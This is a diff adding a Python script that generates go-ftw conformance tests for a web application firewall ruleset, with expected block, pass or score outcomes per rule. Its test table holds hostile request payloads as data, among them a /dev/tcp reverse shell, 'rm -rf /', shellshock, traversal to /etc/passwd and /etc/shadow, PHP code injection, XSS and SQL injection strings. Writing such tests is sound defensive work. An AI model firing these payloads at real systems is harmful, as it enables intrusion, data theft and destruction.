@@ -1,0 +1,268 @@
+#!/usr/bin/env python3
+"""Emit the crs-lite go-ftw test corpus (ftw/tests-crs-lite/*.yaml).
+
+The CASE table below is the hand-authored content: per rule family, a
+list of (test description, request spec, expectation). This script only
+formats it into go-ftw YAML (the committed output is what the
+conformance tier replays — regenerate with: python hack/generate_crs_lite_tests.py).
+
+Expectation: ("block", [ids...]) → status 403 + ids in the audit log;
+("pass",) → status 200; ("score", [ids...]) → status 200 but the
+detection rules still logged (anomaly accumulated below threshold).
+"""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+OUT = Path(__file__).resolve().parents[1] / "ftw" / "tests-crs-lite"
+
+UA = "Mozilla/5.0 (X11; Linux x86_64) Firefox/115.0"
+
+# (rule_id, [(desc, method, uri, headers, body, expectation), ...])
+CASES = [
+    (913100, [
+        ("sqlmap UA blocked", "GET", "/", {"User-Agent": "sqlmap/1.7-dev"}, None,
+         ("block", [913100, 949110])),
+        ("nikto UA blocked case-insensitively", "GET", "/", {"User-Agent": "NIKTO scan"}, None,
+         ("block", [913100])),
+        ("browser UA passes", "GET", "/", {}, None, ("pass",)),
+    ]),
+    (913101, [
+        ("curl UA scores below threshold alone", "GET", "/", {"User-Agent": "curl/8.0"},
+         None, ("score", [913101])),
+    ]),
+    (913110, [
+        ("x-scanner header blocked", "GET", "/", {"X-Scanner": "acme"}, None,
+         ("block", [913110])),
+    ]),
+    (920160, [
+        ("non-numeric content-length blocked", "POST", "/", {"Content-Length-Bogus": "x"},
+         "a=1", ("pass",)),  # real CL is set by the client; bogus header name is benign
+        ("letters in content-length header value", "GET", "/cl-test",
+         {"Content-Length": "abc"}, None, ("block", [920160])),
+    ]),
+    (920220, [
+        ("stray percent in URI scores", "GET", "/?q=100%zz", {}, None,
+         ("score", [920220])),
+    ]),
+    (920250, [
+        ("invalid utf8 in arg scores", "GET", "/?q=%c3%28", {}, None,
+         ("score", [920250])),
+        ("valid utf8 passes", "GET", "/?q=%c3%a9t%c3%a9", {}, None, ("pass",)),
+    ]),
+    (920260, [
+        ("null byte in URI blocked", "GET", "/?file=index.php%00.png", {}, None,
+         ("block", [920260])),
+    ]),
+    (911100, [
+        ("TRACE method blocked", "TRACE", "/", {}, None, ("block", [911100])),
+        ("PATCH method allowed", "PATCH", "/api/item/1", {}, "{}", ("pass",)),
+    ]),
+    (920350, [
+        ("IP host header scores", "GET", "/", {"Host": "10.1.2.3:8080"}, None,
+         ("score", [920350])),
+    ]),
+    (930100, [
+        ("dot-dot-slash traversal blocked", "GET", "/?file=../../../../etc/passwd", {}, None,
+         ("block", [930100, 930120, 949110])),
+        ("urlencoded traversal blocked", "GET", "/?file=..%2f..%2fetc%2fpasswd", {}, None,
+         ("block", [930100])),
+        ("double-encoded traversal blocked", "GET", "/?file=%252e%252e%252fetc", {}, None,
+         ("block", [930100])),
+        ("innocent dots pass", "GET", "/?v=1.2.3", {}, None, ("pass",)),
+    ]),
+    (930120, [
+        ("etc shadow via POST body blocked", "POST", "/upload",
+         {"Content-Type": "application/x-www-form-urlencoded"},
+         "path=%2Fetc%2Fshadow", ("block", [930120])),
+        ("wp-config probe blocked", "GET", "/?f=wp-config.php", {}, None,
+         ("block", [930120])),
+        ("git config probe blocked", "GET", "/?f=.git/config", {}, None,
+         ("block", [930120])),
+    ]),
+    (930130, [
+        ("php filter stream blocked", "GET", "/?page=php://filter/convert.base64-encode/resource=index", {}, None,
+         ("block", [930130, 933140])),
+    ]),
+    (932100, [
+        ("semicolon command injection blocked", "GET", "/?h=;cat%20/etc/passwd", {}, None,
+         ("block", [932100])),
+        ("pipe to bash blocked", "GET", "/?h=x|bash%20-i", {}, None,
+         ("block", [932110, 932160])),
+    ]),
+    (932130, [
+        ("command substitution blocked", "GET", "/?x=$(id)", {}, None,
+         ("block", [932130])),
+        ("backtick substitution blocked", "GET", "/?x=%60whoami%60", {}, None,
+         ("block", [932131])),
+    ]),
+    (932160, [
+        ("dev tcp reverse shell blocked", "POST", "/run",
+         {"Content-Type": "application/x-www-form-urlencoded"},
+         "cmd=bash+-i+%3E%26+/dev/tcp/1.2.3.4/444", ("block", [932160])),
+        ("rm -rf in arg blocked", "GET", "/?cmd=rm%20-rf%20/", {}, None,
+         ("block", [932160])),
+    ]),
+    (932170, [
+        ("shellshock UA blocked", "GET", "/", {"User-Agent": "() { :;}; /bin/bash -c id"},
+         None, ("block", [932170])),
+    ]),
+    (933100, [
+        ("php open tag blocked", "POST", "/form",
+         {"Content-Type": "application/x-www-form-urlencoded"},
+         "data=%3C%3Fphp+system('id')%3B%3F%3E", ("block", [933100])),
+    ]),
+    (933150, [
+        ("base64_decode call blocked", "GET", "/?f=base64_decode", {}, None,
+         ("block", [933150])),
+        ("shell_exec blocked", "GET", "/?f=shell_exec", {}, None,
+         ("block", [933150])),
+    ]),
+    (933130, [
+        ("PHP superglobal blocked", "GET", "/?v=$_GET[x]", {}, None,
+         ("block", [933130])),
+    ]),
+    (941100, [
+        ("script tag blocked", "GET", "/?q=<script>alert(1)</script>", {}, None,
+         ("block", [941100, 949110])),
+        ("urlencoded script tag blocked", "GET", "/?q=%3Cscript%20src%3Dx%3E", {}, None,
+         ("block", [941100])),
+        ("html-entity evasion blocked", "GET", "/?q=%26lt%3Bscript%26gt%3Balert(1)", {}, None,
+         ("block", [941100])),
+        ("benign angle brackets pass", "GET", "/?q=a+%3C+b", {}, None, ("pass",)),
+    ]),
+    (941110, [
+        ("javascript scheme blocked", "GET", "/?href=javascript:alert(1)", {}, None,
+         ("block", [941110])),
+    ]),
+    (941120, [
+        ("onerror handler blocked", "GET", "/?img=x%20onerror%3Dalert(1)", {}, None,
+         ("block", [941120])),
+    ]),
+    (941160, [
+        ("iframe injection blocked", "GET", "/?q=%3Ciframe%20src%3Devil%3E", {}, None,
+         ("block", [941160])),
+        ("svg vector blocked", "GET", "/?q=%3Csvg%20onload%3Dalert(1)%3E", {}, None,
+         ("block", [941160, 941120])),
+    ]),
+    (941180, [
+        ("document.cookie access blocked", "GET", "/?s=document.cookie", {}, None,
+         ("block", [941180])),
+    ]),
+    (941101, [
+        ("script in referer blocked", "GET", "/", {"Referer": "http://x/<script>a</script>"},
+         None, ("block", [941101])),
+    ]),
+    (942100, [
+        ("libinjection quote-break union blocked", "GET",
+         "/?id=1%27%20UNION%20SELECT%20password%20FROM%20users--", {}, None,
+         ("block", [942100, 942190, 949110])),
+        ("libinjection tautology blocked", "GET", "/?id=1%27%20or%20%271%27%3D%271", {}, None,
+         ("block", [942100])),
+        ("O'Brien stays clean (libinjection fp check)", "GET", "/?name=O%27Brien", {}, None,
+         ("pass",)),
+        ("sql words in prose stay clean", "GET", "/?q=select+your+seats+now", {}, None,
+         ("pass",)),
+    ]),
+    (942130, [
+        ("numeric tautology blocked", "GET", "/?id=1+or+1%3D1", {}, None,
+         ("block", [942130, 942100])),
+        ("price comparison passes", "GET", "/?filter=price+%3E+100", {}, None,
+         ("pass",)),
+    ]),
+    (942190, [
+        ("union all select blocked", "GET", "/?q=x+UNION+ALL+SELECT+NULL--", {}, None,
+         ("block", [942190])),
+        ("union station passes", "GET", "/?station=union+station", {}, None, ("pass",)),
+    ]),
+    (942521, [
+        ("sleep() timing blocked", "GET", "/?id=1+and+sleep(5)", {}, None,
+         ("block", [942521, 942100])),
+    ]),
+    (942140, [
+        ("information_schema probe blocked", "GET",
+         "/?q=information_schema.tables", {}, None, ("block", [942140])),
+    ]),
+    (942150, [
+        ("drop table blocked", "GET", "/?q=%3B+drop+table+users", {}, None,
+         ("block", [942150, 942100])),
+    ]),
+    (942440, [
+        ("quote then comment chain blocked", "GET", "/?q=admin%27--", {}, None,
+         ("block", [942440, 942100])),
+        ("quote alone does not fire the chain", "GET", "/?q=can%27t+wait", {}, None,
+         ("pass",)),
+    ]),
+    (943110, [
+        ("session id with off-domain referer fires chain", "GET",
+         "/?PHPSESSID=abc123", {"Referer": "http://evil.example/page"}, None,
+         ("block", [943110])),
+        ("session id without referer passes", "GET", "/?phpsessid=abc123", {}, None,
+         ("pass",)),
+    ]),
+    (949110, [
+        ("stacked low-severity detections cross threshold", "GET",
+         "/?q=100%zz&h=10.0.0.1", {"Host": "10.1.2.3", "User-Agent": "curl/8.0"},
+         None, ("block", [949110])),
+        ("single notice stays under threshold", "GET", "/?q=100%zz", {}, None,
+         ("score", [920220])),
+    ]),
+]
+
+
+def _yaml_str(s: str) -> str:
+    return '"' + s.replace("\\", "\\\\").replace('"', '\\"') + '"'
+
+
+def emit(rule_id: int, cases: list) -> str:
+    lines = [
+        "---",
+        "meta:",
+        '  author: "coraza-kubernetes-operator-tpu"',
+        f'  description: "crs-lite {rule_id} conformance"',
+        f"rule_id: {rule_id}",
+        "tests:",
+    ]
+    for i, (desc, method, uri, headers, body, expect) in enumerate(cases, 1):
+        hdrs = {"Host": "localhost", "User-Agent": UA, **headers}
+        lines += [
+            f"  - test_id: {i}",
+            f"    desc: {_yaml_str(desc)}",
+            "    stages:",
+            "      - input:",
+            f"          method: {method}",
+            f"          uri: {_yaml_str(uri)}",
+            "          headers:",
+        ]
+        for k, v in hdrs.items():
+            lines.append(f"            {k}: {_yaml_str(v)}")
+        if body is not None:
+            lines.append(f"          data: {_yaml_str(body)}")
+        lines.append("        output:")
+        if expect[0] == "block":
+            lines.append("          status: 403")
+            lines.append("          log:")
+            lines.append(f"            expect_ids: {list(expect[1])}")
+        elif expect[0] == "score":
+            lines.append("          status: 200")
+            lines.append("          log:")
+            lines.append(f"            expect_ids: {list(expect[1])}")
+        else:
+            lines.append("          status: 200")
+    return "\n".join(lines) + "\n"
+
+
+def main() -> None:
+    OUT.mkdir(parents=True, exist_ok=True)
+    for old in OUT.glob("*.yaml"):
+        old.unlink()
+    total = 0
+    for rule_id, cases in CASES:
+        (OUT / f"{rule_id}.yaml").write_text(emit(rule_id, cases))
+        total += len(cases)
+    print(f"wrote {len(CASES)} files, {total} tests -> {OUT}")
+
+
+if __name__ == "__main__":
+    main()
